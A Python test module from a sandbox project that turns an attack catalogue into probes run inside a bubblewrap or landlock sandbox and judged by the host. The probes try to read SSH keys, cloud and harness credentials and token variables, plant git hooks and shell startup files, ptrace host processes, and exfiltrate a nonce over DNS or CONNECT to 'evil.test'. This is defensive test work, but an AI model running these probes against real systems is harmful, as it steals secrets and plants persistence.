"""The attack catalogue's cases as model actions with a probe and a judge (issue 28).

Each :class:`Case` is one attack of /work/shared/attacks.md as the model sees it (an
:class:`~stockade.model.Action` built for a :class:`Layout`), the Python that attempts it
inside the sandbox (:data:`PROBE` runs every case's function in one sandbox), and how
the host judges whether it got through. ``test_landlock_attacks.py`` runs them under the
landlock backend and asserts each outcome is the model's; ``test_landlock_docs.py``
renders :func:`table` (bubblewrap beside landlock, action by action) and checks that the
table in docs/security-model.md is that one, so neither can drift from the model.

Cases of the catalogue that are not here, and why, are :data:`NOT_COVERED`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from stockade.model import Action, Boundary, Kind, Route, evaluate
from stockade.policy import LAYERS


@dataclass(frozen=True)
class Layout:
    """Where the cases' world lives: paths and ports the actions and probes aim at."""

    root: Path
    home: Path
    workspace: Path
    nonce: str = "NONCE"
    canary: str = "CANARY"
    tcp_port: int = 9001
    udp_port: int = 9002
    allowed_http: int = 9003
    evil_http: int = 9004
    evil_https: int = 9005
    abstract: str = "sbx-test"
    unix: dict[str, str] = field(default_factory=dict)
    sibling_pid: int = 0
    shm_key: int = 0
    kernel: str = ""

    def config(self) -> dict[str, Any]:
        """What the probe inside is given (argv[1], JSON)."""
        return {
            "home": str(self.home),
            "ws": str(self.workspace),
            "root": str(self.root),
            "nonce": self.nonce,
            "canary": self.canary,
            "tcp_port": self.tcp_port,
            "udp_port": self.udp_port,
            "allowed_http": self.allowed_http,
            "evil_http": self.evil_http,
            "evil_https": self.evil_https,
            "abstract": self.abstract,
            "unix": self.unix,
            "sibling": self.sibling_pid,
            "shm_key": self.shm_key,
            "kernel": self.kernel,
        }


@dataclass
class Seen:
    """What the host observed after the run (sinks, files, processes)."""

    unix: list[str]
    tcp: list[str]
    udp: list[bytes]
    evil: list[str]
    allowed: list[str]
    survivors: list[int]
    sibling_alive: bool


#: a judge: did the case get through, from its line inside (None: it printed nothing)
#: and what the host saw
Judge = Callable[[Layout, "dict[str, Any] | None", Seen], bool]


def _reported(line: dict[str, Any] | None) -> bool:
    """The probe's ``through`` for the case; a case that printed nothing fails."""
    if line is None or "through" not in line:
        raise AssertionError(f"the probe reported nothing: {line!r}")
    return bool(line["through"])


def inside(_layout: Layout, line: dict[str, Any] | None, _seen: Seen) -> bool:
    """The probe's own report: its ``through`` field (a missing line is a failure)."""
    return _reported(line)


def sink(name: str) -> Judge:
    """Through when the unix-socket sink ``name`` logged the nonce (or the probe saw it)."""

    def judge(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
        logged = any(e.startswith(f"{name} ") and layout.nonce in e for e in seen.unix)
        reported = _reported(line)
        assert logged == reported, (line, seen.unix)
        return logged

    return judge


def tcp_sink(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when a TCP sink logged the nonce; the probe's report must agree."""
    logged = any(layout.nonce in e for e in seen.tcp)
    reported = _reported(line)
    assert logged == reported, (line, seen.tcp)
    return logged


def udp_sink(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when the UDP sink received a datagram carrying the nonce."""
    reported = _reported(line)
    return any(layout.nonce.encode() in d for d in seen.udp) or reported


def evil_sink(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when evil.test's server saw the nonce; the probe's report must agree."""
    logged = any(layout.nonce in e for e in seen.evil)
    reported = _reported(line)
    return logged or reported


def allowed_sink(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when allowed.test's server saw the nonce and the probe got the answer."""
    logged = any(layout.nonce in e for e in seen.allowed)
    reported = _reported(line)
    return logged and reported


def host_file(rel: str, under: str = "home") -> Judge:
    """Through when the host file holds the nonce after the run."""

    def judge(layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
        base = {"home": layout.home, "ws": layout.workspace, "/": Path("/")}[under]
        path = base / rel.format(nonce=layout.nonce)
        try:
            return layout.nonce in path.read_text(errors="replace")
        except OSError:
            return False

    return judge


def survivor(_layout: Layout, _line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when a process the run started is still running on the host."""
    return bool(seen.survivors)


def sibling_signalled(_layout: Layout, line: dict[str, Any] | None, seen: Seen) -> bool:
    """Through when the host sibling process died of the probe's signal."""
    reported = _reported(line)
    assert reported == (not seen.sibling_alive), (line, seen.sibling_alive)
    return not seen.sibling_alive


#: Helpers and the case functions' runner, run by the sandbox's python3 (stdlib only).
PROBE_HEAD = r"""
import ctypes, errno, json, os, signal, socket, subprocess, sys, time
cfg = json.loads(sys.argv[1])
N = cfg["nonce"]
libc = ctypes.CDLL(None, use_errno=True)
def err(e):
    return errno.errorcode.get(e.errno, e.errno) if getattr(e, "errno", None) else repr(e)
def read(path):
    try:
        with open(path, "rb") as f:
            data = f.read(100000).decode(errors="replace")
        return cfg["canary"] in data or N in data, data[:60]
    except OSError as e:
        return False, err(e)
def write(path, text=None):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except OSError as e:
        return False, "mkdir " + str(err(e))
    try:
        with open(path, "a") as f:
            f.write(text or N)
        return True, "written"
    except OSError as e:
        return False, err(e)
def env(name):
    v = os.environ.get(name, "")
    return cfg["canary"] in v, "set" if name in os.environ else "absent"
def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(path)
        s.sendall(N.encode())
        return True, "connected"
    except OSError as e:
        return False, err(e)
    finally:
        s.close()
def direct(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(N.encode())
        return True, "connected"
    except OSError as e:
        return False, err(e)
    finally:
        s.close()
def proxy_connect(host, port):
    url = os.environ.get("HTTP_PROXY", "")
    if not url:
        return False, "no proxy"
    p_host, p_port = url.split("//", 1)[1].rstrip("/").rsplit(":", 1)
    s = socket.create_connection((p_host, int(p_port)), timeout=5)
    try:
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        status = s.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
        if " 200" not in status:
            return False, status
        s.sendall(N.encode())
        time.sleep(0.2)
        return True, status
    finally:
        s.close()
def proxy_get(url):
    import urllib.request
    try:
        with urllib.request.urlopen(url + ("&" if "?" in url else "?") + N, timeout=10) as r:
            return r.status == 200, r.status
    except Exception as e:
        return False, repr(e)[:120]
def any_of(*attempts):
    got = [a() for a in attempts]
    return any(t for t, _ in got), [d for _, d in got]
def syscall(nr, *args):
    r = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
    e = ctypes.get_errno()
    if r >= 0 and nr not in (X["keyctl"],):
        os.close(r) if r > 2 else None
    return r >= 0, "ok" if r >= 0 else errno.errorcode.get(e, e)
X = {"x86_64": {"bpf": 321, "keyctl": 250, "perf_event_open": 298, "userfaultfd": 323,
                "io_uring_setup": 425, "ptrace": 101, "mount": 165},
     "aarch64": {"bpf": 280, "keyctl": 219, "perf_event_open": 241, "userfaultfd": 282,
                 "io_uring_setup": 425, "ptrace": 117, "mount": 40}}[os.uname().machine]
CASES = {}
def case(f):
    CASES[f.__name__.replace("_", "-")] = f
    return f
"""

PROBE_TAIL = r"""
for name in cfg["order"]:
    try:
        through, detail = CASES[name]()
        print(json.dumps({"id": name, "through": bool(through), "detail": detail}, default=str), flush=True)
    except Exception as e:
        print(json.dumps({"id": name, "error": repr(e)}), flush=True)
"""


@dataclass(frozen=True)
class Case:
    """One attack as the model's action, the probe function body, and the judge."""

    id: str
    attack: str
    action: Callable[[Layout], Action]
    #: the body of ``def <id>():`` inside (returns ``(through, detail)``)
    probe: str
    judge: Judge = inside


def _read(case_id: str, attack: str, rel: str, what: str) -> Case:
    return Case(
        case_id,
        attack,
        lambda lay: Action(case_id, Kind.FILE_READ, str(lay.home / rel), False, what),
        f"return read(cfg['home'] + '/{rel}')",
    )


def _env(case_id: str, attack: str, name: str) -> Case:
    return Case(
        case_id,
        attack,
        lambda lay: Action(case_id, Kind.ENV_READ, name, False, f"read ${name}"),
        f"return env({name!r})",
    )


def _unix(case_id: str, attack: str, name: str, what: str) -> Case:
    return Case(
        case_id,
        attack,
        lambda lay: Action(
            case_id, Kind.UNIX_CONNECT, lay.unix.get(name, f"/run/{name}"), False, what
        ),
        f"return unix(cfg['unix'][{name!r}])",
        sink(name),
    )


def _write(case_id: str, attack: str, rel: str, what: str, under: str = "home") -> Case:
    base = {"home": "cfg['home']", "ws": "cfg['ws']", "/": "''"}[under]

    def action(lay: Layout) -> Action:
        root = {"home": lay.home, "ws": lay.workspace, "/": Path("/")}[under]
        return Action(
            case_id, Kind.FILE_WRITE, str(root / rel.format(nonce=lay.nonce)), False, what
        )

    return Case(
        case_id,
        attack,
        action,
        f"return write({base} + '/' + {rel!r}.format(nonce=N))",
        host_file(rel, under),
    )


def _syscall(case_id: str, target: str, what: str, call: str) -> Case:
    return Case(
        case_id,
        "PROC-15",
        lambda lay: Action(case_id, Kind.SYSCALL, target, False, what),
        f"return {call}",
    )


def _proc(case_id: str, attack: str, target: str) -> Case:
    return Case(
        case_id,
        attack,
        lambda lay: Action(
            case_id, Kind.PROCESS_READ, target, False, f"read /proc/PID/{target} of a host process"
        ),
        f"return read(f'/proc/{{cfg[\"sibling\"]}}/{target}')",
    )


CASES: tuple[Case, ...] = (
    # -- secrets in files (SEC-01/02/03/13/14/16), a link to one (SEC-07) ----------------
    _read("sec-01-ssh-key", "SEC-01", ".ssh/id_ed25519", "read ~/.ssh/id_ed25519"),
    _read("sec-02-aws", "SEC-02", ".aws/credentials", "read ~/.aws/credentials"),
    _read("sec-03-npmrc", "SEC-03", ".npmrc", "read ~/.npmrc"),
    _read("sec-03-git-credentials", "SEC-03", ".git-credentials", "read ~/.git-credentials"),
    _read("sec-13-harness", "SEC-13", ".claude/.credentials.json", "read the harness's token"),
    _read(
        "sec-14-browser", "SEC-14", ".mozilla/firefox/profile/logins.json", "read a browser store"
    ),
    _read("sec-16-history", "SEC-16", ".bash_history", "read ~/.bash_history"),
    Case(
        "sec-16-sibling-project",
        "SEC-16",
        lambda lay: Action(
            "sec-16-sibling-project",
            Kind.FILE_READ,
            str(lay.root / "sibling" / ".env"),
            False,
            "read a sibling project's .env",
        ),
        "return read(cfg['root'] + '/sibling/.env')",
    ),
    Case(
        "sec-07-symlink",
        "SEC-07",
        lambda lay: Action(
            "sec-07-symlink",
            Kind.FILE_READ,
            str(lay.workspace / "src" / "k"),
            False,
            "read ~/.ssh/id_ed25519 through a link in the workspace",
            resolved=str(lay.home / ".ssh" / "id_ed25519"),
        ),
        "link = cfg['ws'] + '/src/k'\n"
        "    os.path.lexists(link) or os.symlink(cfg['home'] + '/.ssh/id_ed25519', link)\n"
        "    return read(link)",
    ),
    Case(
        "twin-read-workspace",
        "twin",
        lambda lay: Action(
            "twin-read-workspace",
            Kind.FILE_READ,
            str(lay.workspace / "src" / "input"),
            True,
            "read a workspace file",
        ),
        "return read(cfg['ws'] + '/src/input')",
    ),
    # -- the environment (SEC-04, HOST-11) ------------------------------------------------
    _env("sec-04-gh-token", "SEC-04", "GH_TOKEN"),
    _env("sec-04-anthropic-key", "SEC-04", "ANTHROPIC_API_KEY"),
    _env("sec-04-aws-secret", "SEC-04", "AWS_SECRET_ACCESS_KEY"),
    _env("host-11-ci-token", "HOST-11", "ACTIONS_RUNTIME_TOKEN"),
    Case(
        "twin-env-path",
        "twin",
        lambda lay: Action("twin-env-path", Kind.ENV_READ, "PATH", True, "read $PATH"),
        "return 'PATH' in os.environ, 'set' if 'PATH' in os.environ else 'absent'",
    ),
    # -- host processes (SEC-06, PROC-04/05, PROC-01/02) ----------------------------------
    _proc("sec-06-cmdline", "SEC-06", "cmdline"),
    _proc("sec-06-environ", "SEC-06", "environ"),
    _proc("proc-05-mem", "PROC-05", "mem"),
    Case(
        "sec-06-dev-shm",
        "SEC-06",
        lambda lay: Action(
            "sec-06-dev-shm",
            Kind.FILE_READ,
            f"/dev/shm/stockade-ll-{lay.nonce}-host",
            False,
            "read a host process's POSIX shared memory",
        ),
        "return read(f'/dev/shm/stockade-ll-{N}-host')",
    ),
    Case(
        "proc-05-ptrace",
        "PROC-05",
        lambda lay: Action(
            "proc-05-ptrace", Kind.SYSCALL, "ptrace", False, "ptrace a host process"
        ),
        "r = libc.ptrace(16, cfg['sibling'], 0, 0)\n"  # PTRACE_ATTACH
        "    e = ctypes.get_errno()\n"
        "    r == 0 and libc.ptrace(17, cfg['sibling'], 0, 0)\n"  # PTRACE_DETACH
        "    return r == 0, 'attached' if r == 0 else errno.errorcode.get(e, e)",
    ),
    Case(
        "proc-04-signal",
        "PROC-04",
        lambda lay: Action(
            "proc-04-signal", Kind.PROCESS_SIGNAL, "sibling", False, "SIGTERM a host process"
        ),
        "try:\n"
        "        os.kill(cfg['sibling'], signal.SIGTERM)\n"
        "        return True, 'sent'\n"
        "    except OSError as e:\n"
        "        return False, err(e)",
        sibling_signalled,
    ),
    Case(
        "proc-01-02-daemon",
        "PROC-02",
        lambda lay: Action(
            "proc-01-02-daemon", Kind.PROCESS_SURVIVE, "daemon", False, "a double-forked daemon"
        ),
        "subprocess.run(['sh', '-c', f'setsid sh -c \"exec sleep 600 {N}-survive\" "
        "</dev/null >/dev/null 2>&1 &'])\n"
        "    return False, 'started'",
        survivor,
    ),
    Case(
        "proc-16-sysv-shm",
        "PROC-16",
        lambda lay: Action(
            "proc-16-sysv-shm", Kind.HOST_IPC, "sysv_shm", False, "attach the host's SysV shm"
        ),
        "r = libc.shmget(cfg['shm_key'], 0, 0)\n"
        "    return r >= 0, r if r >= 0 else errno.errorcode.get(ctypes.get_errno())",
    ),
    # -- host unix sockets (SEC-10/11/12, HOST-01/02/04, PROC-07/08) ----------------------
    _unix("host-01-docker", "HOST-01", "docker", "connect to docker.sock"),
    _unix("host-02-system-bus", "HOST-02", "system_bus", "connect to the system bus"),
    _unix("sec-11-session-bus", "SEC-11", "session_bus", "connect to the session bus"),
    _unix("sec-10-ssh-agent", "SEC-10", "ssh_agent", "connect to the ssh-agent"),
    _unix("sec-12-git-credential", "SEC-12", "git_cred", "connect to git's credential cache"),
    _unix("proc-08-tmux", "PROC-08", "tmux", "connect to a tmux server"),
    Case(
        "host-04-abstract",
        "HOST-04",
        lambda lay: Action(
            "host-04-abstract",
            Kind.UNIX_CONNECT,
            "@" + lay.abstract,
            False,
            "connect to a host abstract socket",
        ),
        "return unix('\\0' + cfg['abstract'])",
        sink("abstract"),
    ),
    # -- writes (WRT-01/02/03/05/06/07/10/11/12) -----------------------------------------
    _write("wrt-01-bashrc", "WRT-01", ".bashrc", "append to ~/.bashrc"),
    _write("wrt-02-git-hook", "WRT-02", ".git/hooks/pre-commit", "plant a git hook", "ws"),
    _write("wrt-03-git-config", "WRT-03", ".git/config", "append to .git/config", "ws"),
    _write("wrt-05-vscode", "WRT-05", ".vscode/settings.json", "write .vscode/settings.json", "ws"),
    _write("wrt-06-policy", "WRT-06", "stockade.toml", "write the workspace policy", "ws"),
    Case(
        "wrt-07-symlink",
        "WRT-07",
        lambda lay: Action(
            "wrt-07-symlink",
            Kind.FILE_WRITE,
            str(lay.workspace / "src" / "p"),
            False,
            "write ~/.profile through a link in the workspace",
            resolved=str(lay.home / ".profile"),
        ),
        "link = cfg['ws'] + '/src/p'\n"
        "    os.path.lexists(link) or os.symlink(cfg['home'] + '/.profile', link)\n"
        "    return write(link)",
        host_file(".profile"),
    ),
    _write("wrt-10-host-tmp", "WRT-10", "tmp/stockade-ll-{nonce}", "write the host's /tmp", "/"),
    _write(
        "wrt-10-dev-shm", "WRT-10", "dev/shm/stockade-ll-{nonce}", "write the host's /dev/shm", "/"
    ),
    _write("wrt-11-autostart", "WRT-11", ".config/autostart/x.desktop", "add an autostart entry"),
    _write("wrt-12-user-site", "WRT-12", ".local/lib/evil.pth", "write the user site"),
    Case(
        "twin-write-workspace",
        "twin",
        lambda lay: Action(
            "twin-write-workspace",
            Kind.FILE_WRITE,
            str(lay.workspace / "src" / "out"),
            True,
            "write a workspace file",
        ),
        "return write(cfg['ws'] + '/src/out')",
        host_file("src/out", "ws"),
    ),
    # -- kernel facilities (PROC-15) and the host kernel itself --------------------------
    _syscall(
        "proc-15-userns",
        "userns",
        "make a user namespace",
        "(libc.unshare(0x10000000) == 0, err(OSError(ctypes.get_errno(), '')))",
    ),
    _syscall("proc-15-bpf", "bpf", "bpf()", "syscall(X['bpf'], 0, 0, 0)"),
    _syscall(
        "proc-15-keyctl",
        "keyctl",
        "keyctl() on the session keyring",
        "syscall(X['keyctl'], 0, -3, 0)",
    ),
    _syscall(
        "proc-15-perf",
        "perf",
        "perf_event_open()",
        "syscall(X['perf_event_open'], 0, 0, -1, -1, 0)",
    ),
    _syscall("proc-15-userfaultfd", "userfaultfd", "userfaultfd()", "syscall(X['userfaultfd'], 0)"),
    _syscall(
        "proc-15-io-uring", "io_uring", "io_uring_setup()", "syscall(X['io_uring_setup'], 1, 0)"
    ),
    Case(
        "proc-15-scm-rights",
        "PROC-15",
        lambda lay: Action(
            "proc-15-scm-rights",
            Kind.HOST_KERNEL,
            "sendmsg:SCM_RIGHTS",
            False,
            "the host kernel parses a descriptor passed over a unix socket",
        ),
        "a, b = socket.socketpair()\n"
        "    socket.send_fds(a, [b'x'], [0])\n"
        "    _, fds, _, _ = socket.recv_fds(b, 1, 1)\n"
        "    host = os.uname().release == cfg['kernel']\n"
        "    return bool(fds) and host, os.uname().release",
    ),
    # -- the network (NET-01/03/04/05/08/16/17, HOST-05) ---------------------------------
    Case(
        "net-01-direct-socket",
        "NET-01",
        lambda lay: Action(
            "net-01-direct-socket",
            Kind.NET_CONNECT,
            f"127.0.0.1:{lay.tcp_port}",
            False,
            "a socket that ignores the proxy variables",
            host="127.0.0.1",
            port=lay.tcp_port,
            routes=(Route.DIRECT,),
        ),
        "return direct(socket.AF_INET, ('127.0.0.1', cfg['tcp_port']))",
        tcp_sink,
    ),
    Case(
        "host-05-loopback",
        "HOST-05",
        lambda lay: Action(
            "host-05-loopback",
            Kind.NET_CONNECT,
            f"127.0.0.1:{lay.tcp_port}",
            False,
            "a host loopback service, directly and through the proxy",
            host="127.0.0.1",
            port=lay.tcp_port,
        ),
        "return any_of(lambda: direct(socket.AF_INET, ('127.0.0.1', cfg['tcp_port'])),\n"
        "                  lambda: proxy_connect('127.0.0.1', cfg['tcp_port']))",
        tcp_sink,
    ),
    Case(
        "net-17-ipv6",
        "NET-17",
        lambda lay: Action(
            "net-17-ipv6",
            Kind.NET_CONNECT,
            f"[::1]:{lay.tcp_port}",
            False,
            "IPv6 loopback, directly and through the proxy",
            host="::1",
            port=lay.tcp_port,
        ),
        "return any_of(lambda: direct(socket.AF_INET6, ('::1', cfg['tcp_port'])),\n"
        "                  lambda: proxy_connect('[::1]', cfg['tcp_port']))",
        tcp_sink,
    ),
    Case(
        "net-16-udp",
        "NET-16",
        lambda lay: Action(
            "net-16-udp",
            Kind.NET_CONNECT,
            f"udp:127.0.0.1:{lay.udp_port}",
            False,
            "a UDP datagram",
            host="127.0.0.1",
            port=lay.udp_port,
            routes=(Route.DIRECT,),
        ),
        "try:\n"
        "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    except OSError as e:\n"
        "        return False, err(e)\n"
        "    s.sendto(N.encode(), ('127.0.0.1', cfg['udp_port']))\n"
        "    return True, 'sent'",
        udp_sink,
    ),
    Case(
        "net-05-dns-exfil",
        "NET-05",
        lambda lay: Action(
            "net-05-dns-exfil",
            Kind.DNS_LOOKUP,
            f"{lay.nonce}.evil.test",
            False,
            "a DNS query carrying data",
            host=f"{lay.nonce.lower()}.evil.test",
        ),
        "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"
        "    q += b''.join(bytes([len(p)]) + p.encode() for p in (N, 'evil', 'test')) + b'\\0\\0\\1\\0\\1'\n"
        "    def udp():\n"
        "        try:\n"
        "            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "        except OSError as e:\n"
        "            return False, err(e)\n"
        "        s.sendto(q, ('127.0.0.1', cfg['udp_port']))\n"
        "        return True, 'sent'\n"
        "    return any_of(udp, lambda: proxy_connect(N + '.evil.test', 443))",
        udp_sink,
    ),
    Case(
        "net-03-plain-http-evil",
        "NET-03",
        lambda lay: Action(
            "net-03-plain-http-evil",
            Kind.NET_REQUEST,
            f"http://evil.test:{lay.evil_http}/",
            False,
            "plain HTTP to a host not on the allow-list",
            host="evil.test",
            port=lay.evil_http,
            method="GET",
            path="/",
        ),
        "return any_of(lambda: proxy_get(f'http://evil.test:{cfg[\"evil_http\"]}/'),\n"
        "                  lambda: direct(socket.AF_INET, ('127.0.0.1', cfg['evil_http'])))",
        evil_sink,
    ),
    Case(
        "net-04-connect-evil",
        "NET-04",
        lambda lay: Action(
            "net-04-connect-evil",
            Kind.NET_CONNECT,
            f"evil.test:{lay.evil_https}",
            False,
            "CONNECT to a host not on the allow-list",
            host="evil.test",
            port=lay.evil_https,
        ),
        "return proxy_connect('evil.test', cfg['evil_https'])",
        evil_sink,
    ),
    Case(
        "net-08-ip-literal",
        "NET-08",
        lambda lay: Action(
            "net-08-ip-literal",
            Kind.NET_REQUEST,
            f"http://127.0.0.1:{lay.evil_http}/",
            False,
            "HTTP to a raw IP literal",
            host="127.0.0.1",
            port=lay.evil_http,
            method="GET",
            path="/",
        ),
        "return proxy_get(f'http://127.0.0.1:{cfg[\"evil_http\"]}/')",
        evil_sink,
    ),
    Case(
        "twin-allowed-request",
        "twin",
        lambda lay: Action(
            "twin-allowed-request",
            Kind.NET_REQUEST,
            f"http://allowed.test:{lay.allowed_http}/",
            True,
            "HTTP to the allow-listed host through the proxy",
            host="allowed.test",
            port=lay.allowed_http,
            method="GET",
            path="/",
            routes=(Route.PROXY,),
        ),
        "return proxy_get(f'http://allowed.test:{cfg[\"allowed_http\"]}/')",
        allowed_sink,
    ),
    # -- resources (RES-01/05/03), last: the memory case may end the probe ----------------
    Case(
        "res-01-pids",
        "RES-01",
        lambda lay: Action(
            "res-01-pids", Kind.RESOURCE, "pids", False, "start 100 processes", amount=100
        ),
        "kids = []\n"
        "    try:\n"
        "        for _ in range(100):\n"
        "            kids.append(subprocess.Popen(['sleep', '30']))\n"
        "    except OSError as e:\n"
        "        pass\n"
        "    for k in kids:\n"
        "        k.kill(); k.wait()\n"
        "    return len(kids) == 100, len(kids)",
    ),
    Case(
        "res-05-file-size",
        "RES-05",
        lambda lay: Action(
            "res-05-file-size",
            Kind.RESOURCE,
            "file_size",
            False,
            "write a 2 MiB file",
            amount=2 * 1024 * 1024,
        ),
        "try:\n"
        "        with open(cfg['ws'] + '/src/big', 'wb') as f:\n"
        "            f.write(b'x' * (2 * 1024 * 1024))\n"
        "        return True, 'written'\n"
        "    except OSError as e:\n"
        "        return False, err(e)",
    ),
    Case(
        "res-03-memory",
        "RES-03",
        lambda lay: Action(
            "res-03-memory",
            Kind.RESOURCE,
            "memory",
            False,
            "allocate 1 GiB",
            amount=1024**3,
        ),
        "try:\n"
        "        b = bytearray(1024 ** 3)\n"
        "        return True, len(b)\n"
        "    except MemoryError as e:\n"
        "        return False, 'MemoryError'",
    ),
)

#: A case whose probe may end the sandbox (the cgroup's OOM killer): no line is then
#: its being stopped.
MAY_END_THE_RUN = frozenset({"res-03-memory"})

#: the limits every case runs under (the resource cases aim above them)
LIMITS = {"pids": 64, "memory": 256 * 1024**2, "file_size": 1024**2}

#: The cases of attacks.md Part A (its ids): each is a case here or in NOT_COVERED.
CATALOGUE: tuple[str, ...] = (
    *(f"SEC-{n:02d}" for n in (1, 2, 3, 4, 6, 7, 10, 11, 12, 13, 14, 16)),
    *(f"WRT-{n:02d}" for n in (1, 2, 3, 5, 6, 7, 10, 11, 12, 13)),
    *(f"PROC-{n:02d}" for n in (1, 2, 4, 5, 7, 8, 9, 10, 13, 15, 16)),
    *(f"HOST-{n:02d}" for n in (1, 2, 4, 5, 7, 9, 11, 12)),
    *(f"NET-{n:02d}" for n in (1, 3, 4, 5, 7, 8, 12, 16, 17, 20, 21, 22, 23, 25, 26, 27)),
    *(f"RES-{n:02d}" for n in (1, 2, 3, 5, 6, 8, 10, 11)),
)

_OFF_LOOPBACK = (
    "addresses outside 127.0.0.0/8 (metadata, LAN, resolvers), which these tests never "
    "send to: the direct route is the same Landlock rule as net-01 (it names the proxy's "
    "port, not an address) and the proxy route the same host decision as under "
    "bubblewrap (tests/attacks/test_host.py, test_net.py, in an isolated netns)"
)
_PROXY = (
    "a decision of the proxy (SNI, request rules, credential binding, presets, failing "
    "closed): the backend changes how a client reaches the proxy, not what the proxy "
    "decides; the model's egress and inspect predicates on the proxy route do not read "
    "the backend (tests/attacks/test_net.py)"
)

#: Cases of the catalogue not run here, and why.
NOT_COVERED: dict[str, str] = {
    "PROC-01": "a background process: proc-01-02-daemon is one (double fork and setsid)",
    "HOST-07": _OFF_LOOPBACK,
    "HOST-09": _OFF_LOOPBACK,
    "HOST-12": _OFF_LOOPBACK,
    "NET-07": _OFF_LOOPBACK,
    **{f"NET-{n}": _PROXY for n in (12, 20, 21, 22, 23, 25, 26, 27)},
    "WRT-13": "set-id bits and device nodes: not a model action (seccomp refuses set-id modes)",
    "PROC-07": "spawning through the buses: host-02-system-bus, sec-11-session-bus",
    "PROC-09": "failing closed without namespaces: tests/runtime/test_landlock_backend.py",
    "PROC-10": "stockade has no command deny-list",
    "PROC-13": "stockade has no unix-socket allow-list",
    "RES-02": "threads count as pids: res-01-pids",
    "RES-06": "no inode quota: a known limit (docs/security-model.md)",
    "RES-11": "per-user kernel objects: a known limit (docs/security-model.md)",
    "RES-08": (
        "time limits need a run of their own: tests/runtime/test_landlock_backend.py::"
        "test_landlock_timeout_kills_the_tree"
    ),
    "RES-10": "request floods: a decision of the proxy (tests/attacks/test_res.py)",
}


def probe(cases: tuple[Case, ...] = CASES) -> str:
    """The Python program that attempts every case inside one sandbox."""
    parts = [PROBE_HEAD]
    for c in cases:
        name = c.id.replace("-", "_")
        parts.append(f"@case\ndef {name}():\n    {c.probe}\n")
    parts.append(PROBE_TAIL)
    return "\n".join(parts)


def verdict(boundary: Boundary, action: Action) -> tuple[bool, str]:
    """Whether ``action`` gets through every layer of ``boundary``, and what says so."""
    outcome = evaluate(boundary, [action], LAYERS).outcomes[0]
    if outcome.through:
        return True, "gets through"
    return False, ", ".join(f"{layer} ({reason.value})" for layer, reason in outcome.stopped_by)


#: The layout the docs' table is computed for (the verdicts do not depend on the
#: paths: tests/attacks/test_landlock_attacks.py checks the measured run gives the same).
DOCS_LAYOUT = Layout(
    root=Path("/home/user/code"),
    home=Path("/home/user"),
    workspace=Path("/home/user/code/project"),
    unix={
        "docker": "/var/run/docker.sock",
        "system_bus": "/run/dbus/system_bus_socket",
        "session_bus": "/run/user/1000/bus",
        "ssh_agent": "/tmp/ssh-XXXX/agent.1",
        "git_cred": "/home/user/.cache/git/credential/socket",
        "tmux": "/tmp/tmux-1000/default",
    },
)


def policy_text() -> str:
    """The policy every case is judged under (the arena's, without its TLS ports)."""
    limits = "".join(f"{k} = {v}\n" for k, v in LIMITS.items())
    return (
        "version = 1\n[network]\n"
        'allow = ["allowed.test"]\n'
        'hosts = { "allowed.test" = "127.0.0.1", "evil.test" = "127.0.0.1" }\n'
        f"[limits]\n{limits}"
    )


def docs_boundary(runtime: str, cgroup: bool = False) -> Boundary:
    """The boundary of :func:`policy_text` for :data:`DOCS_LAYOUT` under ``runtime``."""
    from stockade._record import replace
    from stockade.policy import parse_policy_text

    # the layout's workspace need not exist here: parsed for this directory, then moved
    policy = parse_policy_text(policy_text(), "landlock-cases")
    policy = replace(policy, filesystem=replace(policy.filesystem, workspace=DOCS_LAYOUT.workspace))
    return Boundary(policy, landlock_scopes=True, runtime=runtime, cgroup=cgroup)


BEGIN = "<!-- landlock-cases: generated by tests/attacks/landlock_cases.py; do not edit -->"
END = "<!-- landlock-cases: end -->"


def table() -> str:
    """The markdown table of every case under bubblewrap and landlock (docs/security-model.md).

    The landlock column is judged without a cgroup (where one can be made it says what
    changes); "lost" marks an attack bubblewrap stops and landlock lets through.
    """
    bw = docs_boundary("bubblewrap")
    ll = docs_boundary("landlock")
    ll_cg = docs_boundary("landlock", cgroup=True)
    rows = [
        "| case | attack | action | bubblewrap | landlock |",
        "|---|---|---|---|---|",
    ]
    lost: list[str] = []
    for c in CASES:
        action = c.action(DOCS_LAYOUT)
        through_bw, says_bw = verdict(bw, action)
        through_ll, says_ll = verdict(ll, action)
        _, says_cg = verdict(ll_cg, action)
        if says_cg != says_ll:
            says_ll += f"; with a cgroup: {says_cg}"
        if through_ll and not through_bw and not action.needed:
            lost.append(f"`{c.id}`")
            says_ll = f"**{says_ll}** (lost)"
        rows.append(f"| `{c.id}` | {c.attack} | {action.description} | {says_bw} | {says_ll} |")
    held = sum(1 for c in CASES if not verdict(ll, c.action(DOCS_LAYOUT))[0])
    summary = (
        f"{len(CASES)} cases; landlock stops {held} of them (no cgroup); "
        f"lost beside bubblewrap: {', '.join(lost)}."
    )
    return "\n".join([BEGIN, "", *rows, "", summary, "", END]) + "\n"


if __name__ == "__main__":
    print(table(), end="")
